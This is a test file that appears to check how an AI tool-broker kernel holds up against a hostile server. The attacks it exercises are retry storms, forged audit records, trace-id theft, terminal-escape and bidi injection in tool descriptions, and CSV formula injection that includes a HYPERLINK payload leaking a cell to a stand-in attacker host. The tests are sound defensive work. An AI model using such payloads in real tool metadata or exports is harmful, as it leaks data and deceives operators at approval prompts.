/**
 * What a hostile server can do to the kernel, each attack through a real child process
 * (test/fixtures/servers/hostile.js) and the kernel's one pipeline: none of it may run a tool more
 * often than the operator allowed, forge the kernel's audit trail, or exhaust memory and disk.
 */
import { strict as assert } from 'node:assert';
import { spawnSync } from 'node:child_process';
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { runCli } from '../../client/src/cli/main';
import type { AuditRecord } from '../../client/src/kernel/audit/auditEvent';
import { readRecords } from '../../client/src/kernel/audit/reader';
import { REPORT_BURST, REPORT_RATE_PER_SECOND } from '../../client/src/kernel/audit/serverReports';
import { repoRoot } from '../repoRoot';
import { eventually } from '../support/patience';
import {
  exampleServer,
  fixtureServer,
  node,
  ScriptedOperator,
  startKernel,
  TestKernel,
} from './support/kernelHarness';

const hostile = (...flags: string[]) =>
  `[[servers]]\nid = "hostile"\ncommand = ${node}\nargs = [${[fixtureServer('hostile.js'), ...flags.map((f) => JSON.stringify(f))].join(', ')}]\n`;

const freshDir = () => mkdtempSync(join(tmpdir(), 'mgp-hostile-'));

function executions(stateFile: string): { tool: string }[] {
  if (!existsSync(stateFile)) return [];
  return readFileSync(stateFile, 'utf8')
    .split('\n')
    .filter(Boolean)
    .map((line) => JSON.parse(line) as { tool: string });
}

describe('a hostile server (real child process)', function () {
  let t: TestKernel | undefined;
  afterEach(async () => {
    await t?.dispose();
    t = undefined;
  });

  describe('retries (MGP §14.6)', () => {
    it('never runs a safe tool more than the kernel maximum, whatever max_retries the server asks for', async () => {
      const dir = freshDir();
      const stateFile = join(dir, 'calls.jsonl');
      t = await startKernel(hostile('--retry-storm', '--state-file', stateFile), { dir });
      await assert.rejects(
        t.kernel.call({ serverId: 'hostile', toolName: 'read_big', args: {} }),
        (e) => (e as { code?: number }).code === 3000,
      );
      assert.equal(executions(stateFile).length, 1 + 3, 'one call and at most 3 retries');
      const retries = await t.ofType('dev.mgp-kernel.tool_retried');
      assert.equal(retries.length, 3);
      for (const retry of retries)
        assert.ok(
          (retry.details.delay_ms as number) >= 100,
          `a retry waits at least the kernel's floor, not the server's 0 ms (${String(retry.details.delay_ms)})`,
        );
    });

    it('asks again before it retries a call that is not safe, and stops when the operator says no', async () => {
      const operator = new ScriptedOperator();
      const dir = freshDir();
      const stateFile = join(dir, 'calls.jsonl');
      operator.toolAnswers = ['once', 'deny'];
      t = await startKernel(hostile('--retry-storm', '--state-file', stateFile), { dir, operator });
      await assert.rejects(
        t.kernel.call({ serverId: 'hostile', toolName: 'delete_file', args: { path: '/x' } }),
        (e) => [3000, 1000].includes((e as { code?: number }).code ?? 0),
      );
      assert.equal(executions(stateFile).length, 1, 'one "Allow once" is one execution');
      assert.equal(operator.count('tool'), 2, 'the retry was put to the operator');
    });
  });

  describe('audit events from servers (MGP §6)', () => {
    const fromHostile = async (k: TestKernel) =>
      (await k.records()).filter(
        (r) => r.actor.id === 'hostile' || r.details.reported_by === 'hostile',
      );

    it('keeps what a server reports labelled as its own: never as the kernel, another server, or another time', async () => {
      t = await startKernel(hostile('--forge-audit', '5'));
      await eventually(async () => (await fromHostile(t!)).length >= 5, 'five reports in the log');
      const reported = await fromHostile(t);
      const started = Date.now() - 60_000;
      for (const record of reported) {
        assert.deepEqual(record.actor, { type: 'server', id: 'hostile' });
        assert.equal(record.target.server_id, 'hostile', 'a server reports about itself only');
        assert.equal(record.event_type, 'dev.mgp-kernel.server_reported');
        assert.ok(Date.parse(record.timestamp) > started, 'stamped when the kernel received it');
        assert.equal(record.details.reported_event_type, 'TOOL_EXECUTED');
        assert.deepEqual(record.details.reported_actor, { type: 'kernel', id: 'mgp-kernel' });
        assert.equal(record.details.reported_timestamp, '2001-01-01T00:00:00.000Z');
      }
      const kernelRecords = (await t.records()).filter((r) => r.actor.type === 'kernel');
      assert.ok(kernelRecords.every((r) => r.target.server_id !== 'victim'));
    });

    it('limits how much and how fast a server may write into the trail', async () => {
      t = await startKernel(hostile('--forge-audit', '3000', '--audit-kb', '16'));
      // What the server sends on its own has no event to wait on: the log is read until it shows.
      await eventually(
        async () =>
          (await t!.records()).some((r) => r.event_type === 'dev.mgp-kernel.server_audit_dropped'),
        'the record of dropped reports',
      );
      const reported = (await t.records()).filter(
        (r) => r.event_type === 'dev.mgp-kernel.server_reported',
      );
      const seconds =
        (Date.parse(reported[reported.length - 1].timestamp) - Date.parse(reported[0].timestamp)) /
        1000;
      const allowed = REPORT_BURST + REPORT_RATE_PER_SECOND * seconds + 1;
      assert.ok(
        reported.length <= allowed,
        `at most the burst and the rate got in: ${reported.length} in ${seconds} s`,
      );
      assert.ok(reported.length < 3000);
      for (const record of reported)
        assert.ok(
          JSON.stringify(record).length < 20_000,
          'each record is cut to size, with a mark saying so',
        );
      assert.equal(reported[0].details.details_truncated, true);
      const dropped = (await t.records()).find(
        (r) => r.event_type === 'dev.mgp-kernel.server_audit_dropped',
      );
      assert.equal(dropped?.actor.type, 'kernel');
      assert.ok((dropped?.details.dropped as number) > 0);
    });

    it('keeps a report under a trace id only when the kernel gave that id to the server (MGP §6.5)', async () => {
      t = await startKernel(
        `${hostile()}\n[[servers]]\nid = "example"\ncommand = ${node}\nargs = [${exampleServer}]\n`,
      );
      const victim = await t.kernel.call({
        serverId: 'example',
        toolName: 'echo',
        args: { text: 'private' },
      });
      const own = await t.kernel.call({
        serverId: 'hostile',
        toolName: 'report_audit',
        args: { trace_ids: ['own', victim.traceId, 'made-up'] },
      });
      await eventually(async () => (await fromHostile(t!)).length >= 3, 'three reports in the log');
      const reports = (await fromHostile(t)).filter(
        (r) => r.event_type === 'dev.mgp-kernel.server_reported',
      );
      const about = (what: string) =>
        reports.find(
          (r) =>
            r.details.reported_details !== undefined &&
            (r.details.reported_details as { about: string }).about === what,
        );
      assert.equal(
        about('own')?.trace_id,
        own.traceId,
        "a report about the server's own call keeps its trace",
      );
      for (const stolen of [victim.traceId, 'made-up']) {
        const record = about(stolen);
        assert.notEqual(
          record?.trace_id,
          stolen,
          'never filed under a trace the server was not given',
        );
        assert.equal(
          record?.details.trace_id_refused,
          stolen,
          'and the record says what was claimed',
        );
      }
      const victimTrace = (await t.records()).filter((r) => r.trace_id === victim.traceId);
      assert.deepEqual(
        [...new Set(victimTrace.map((r) => r.target.server_id))],
        ['example'],
        "the victim call's trace holds only the kernel's records of it",
      );
    });

    it('drops what a server reports past its total for the window, with one note of how many', async () => {
      const reportLimits = { windowMs: 3_600_000, records: 20, bytes: 1024 * 1024 };
      t = await startKernel(hostile('--forge-audit', '60'), { reportLimits });
      // The forged reports go out before anything else: once a call's answer is back, all were taken.
      await t.kernel.call({
        serverId: 'hostile',
        toolName: 'report_audit',
        args: { trace_ids: [] },
      });
      const auditDir = join(t.stateDir, 'audit');
      await t.stop();
      const records: AuditRecord[] = [];
      for await (const record of readRecords(auditDir)) records.push(record);
      const reported = records.filter((r) => r.event_type === 'dev.mgp-kernel.server_reported');
      assert.equal(reported.length, 20);
      const notes = records.filter((r) => r.event_type === 'dev.mgp-kernel.server_audit_dropped');
      assert.deepEqual(
        notes.map((n) => [n.actor.type, n.target.server_id, n.details.limit, n.details.dropped]),
        [['kernel', 'hostile', 'total', 40]],
      );
    });

    it('caps the bytes a server reports per window too', async () => {
      const reportLimits = { windowMs: 3_600_000, records: 1000, bytes: 64 * 1024 };
      t = await startKernel(hostile('--forge-audit', '50', '--audit-kb', '6'), { reportLimits });
      await t.kernel.call({
        serverId: 'hostile',
        toolName: 'report_audit',
        args: { trace_ids: [] },
      });
      const auditDir = join(t.stateDir, 'audit');
      await t.stop();
      const records: AuditRecord[] = [];
      for await (const record of readRecords(auditDir)) records.push(record);
      const reported = records.filter((r) => r.event_type === 'dev.mgp-kernel.server_reported');
      const bytes = reported.reduce((sum, r) => sum + JSON.stringify(r).length, 0);
      assert.ok(
        reported.length < 50 && bytes < 64 * 1024 + 8 * 1024,
        `${reported.length} records, ${bytes} bytes`,
      );
      const note = records.find((r) => r.event_type === 'dev.mgp-kernel.server_audit_dropped');
      assert.equal(note?.details.dropped, 50 - reported.length);
    });

    it("sends a server only the audit events about itself, never another server's", async () => {
      t = await startKernel(
        `${hostile()}\n[[servers]]\nid = "example"\ncommand = ${node}\nargs = [${exampleServer}]\n`,
      );
      await t.kernel.call({ serverId: 'example', toolName: 'echo', args: { text: 'private' } });
      await t.trail.flush();
      await t.kernel.call({ serverId: 'hostile', toolName: 'echo', args: { text: 'x' } });
      await t.trail.flush();
      const seen = (await t.kernel.call({ serverId: 'hostile', toolName: 'audit_seen', args: {} }))
        .result.structuredContent as { events: { target: { server_id?: string } }[] };
      assert.ok(seen.events.length > 0, 'it does get the events about itself');
      assert.deepEqual(
        [...new Set(seen.events.map((e) => e.target.server_id))],
        ['hostile'],
        JSON.stringify(seen.events.map((e) => e.target)),
      );
    });
  });

  describe('bounds on what a server sends', () => {
    it('stops listing a server that pages its tools forever, with an error that says why', async () => {
      t = await startKernel(hostile('--endless-pages'));
      const server = t.kernel.manager.get('hostile');
      assert.notEqual(server.state, 'connected');
      assert.match(
        server.lastError ?? '',
        /tools\/list: .*more than (100 pages|5,000 tools)/,
        String(server.lastError),
      );
    });

    it('refuses an mgp.tools.request whose capabilities have no bound', async () => {
      t = await startKernel(hostile());
      const capabilities = Array.from({ length: 100_000 }, (_, i) => `capability ${i}`);
      await assert.rejects(
        t.kernel.call({
          serverId: 'mgp',
          toolName: 'mgp.tools.request',
          args: { reason: 'capability_gap', context: 'x', requirements: { capabilities } },
        }),
        (e: Error) => /requirements\.capabilities: at most 32/.test(e.message),
      );
      await assert.rejects(
        t.kernel.call({
          serverId: 'mgp',
          toolName: 'mgp.tools.request',
          args: { reason: 'capability_gap', context: 'c'.repeat(100_000), requirements: {} },
        }),
        (e: Error) => /context: at most 8,000 characters/.test(e.message),
      );
    });

    it('keeps a 2 MB error out of the audit trail but for a cut, marked excerpt', async () => {
      t = await startKernel(hostile('--huge-error', '2'));
      await assert.rejects(
        t.kernel.call({ serverId: 'hostile', toolName: 'read_big', args: {} }),
        (e) => (e as { code?: number }).code === 5000,
      );
      const records = await t.records();
      const size = records.reduce((sum, r) => sum + JSON.stringify(r).length, 0);
      assert.ok(size < 100_000, `the whole trail holds ${size} characters`);
      const failure = records.find(
        (r) => r.event_type === 'TOOL_EXECUTED' && r.target.tool_name === 'read_big',
      );
      assert.match(String(failure?.details.error), /…\[truncated: \d[\d,]* more characters\]$/);
    });
  });

  describe('what the mgp command prints', () => {
    let dir: string;
    let config: string;
    let stateHome: string | undefined;
    before(() => {
      dir = freshDir();
      config = join(dir, 'mgp.toml');
      writeFileSync(config, hostile('--escape-description'));
      stateHome = process.env.XDG_STATE_HOME;
      process.env.XDG_STATE_HOME = join(dir, 'state');
    });
    after(() => {
      if (stateHome === undefined) delete process.env.XDG_STATE_HOME;
      else process.env.XDG_STATE_HOME = stateHome;
      rmSync(dir, { recursive: true, force: true });
    });

    const CONTROL =
      /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069\u2028\u2029]/;

    it('shows escapes, carriage returns and bidi overrides in tool names and descriptions as visible text', async () => {
      let out = '';
      const code = await runCli(['tools', '--config', config], {
        out: (text) => (out += `${text}\n`),
        err: () => undefined,
      });
      assert.equal(code, 0);
      assert.doesNotMatch(out, CONTROL);
      const lines = out.trimEnd().split('\n');
      assert.ok(
        lines.every((line) => line.startsWith('hostile.')),
        `one line per tool, none forged by a name with a newline:\n${out}`,
      );
      assert.match(
        out,
        /hostile\.delete_file\tdangerous\tDeletes a file\.\\u001b\[2K\\r  risk: safe/,
      );
    });

    it('keeps the approval prompt on a terminal (a real pty) from being rewritten by a description', () => {
      const cli = join(repoRoot(), 'dist/cli.js');
      const command = `${JSON.stringify(process.execPath)} ${JSON.stringify(cli)} call hostile delete_file --args '{"path":"/tmp/x"}' --config ${JSON.stringify(config)}`;
      const answered = spawnSync('script', ['-qfec', command, '/dev/null'], {
        input: 'd\n',
        encoding: 'utf8',
        env: { ...process.env, XDG_STATE_HOME: join(dir, 'state') },
        timeout: 30000,
      });
      const shown = answered.stdout.replace(/\r\n/g, '\n');
      assert.match(shown, /hostile wants to run delete_file/);
      assert.match(shown, /risk: dangerous/);
      assert.doesNotMatch(shown, CONTROL, JSON.stringify(shown));
      assert.match(
        shown,
        /description \(from the server, untrusted\): Deletes a file\.\\u001b\[2K\\r  risk: safe/,
      );
    });

    it('exports audit records as CSV a spreadsheet shows as text, never as a formula', async () => {
      const formula = '=HYPERLINK("http://attacker.invalid/?"&A1,"click")';
      const quiet = { out: () => undefined, err: () => undefined };
      await runCli(['call', 'hostile', formula, '--config', config], quiet);
      await runCli(['call', 'hostile', '@SUM(1+1)', '--config', config], quiet);
      let csv = '';
      const code = await runCli(['audit', 'export', '--format', 'csv', '--cwd', dir], {
        ...quiet,
        data: (chunk) => (csv += chunk),
      });
      assert.equal(code, 0);
      // The folder is shared with the tests before: only this test's two unknown tools count.
      const blocked = csv
        .split('\r\n')
        .filter((line) => line.includes('TOOL_BLOCKED') && line.includes('unknown_tool'));
      assert.equal(blocked.length, 2, csv);
      for (const line of blocked) {
        const cells = line.match(/("([^"]|"")*"|[^,]*)(,|$)/g) ?? [];
        for (const cell of cells) {
          const text = cell.replace(/,$/, '').replace(/^"|"$/g, '');
          assert.doesNotMatch(text, /^[=+\-@\t\r]/, `a cell a spreadsheet would evaluate: ${text}`);
        }
      }
      assert.ok(csv.includes(`'${formula.replace(/"/g, '""')}`), 'the name is kept, as text');
    });
  });
});
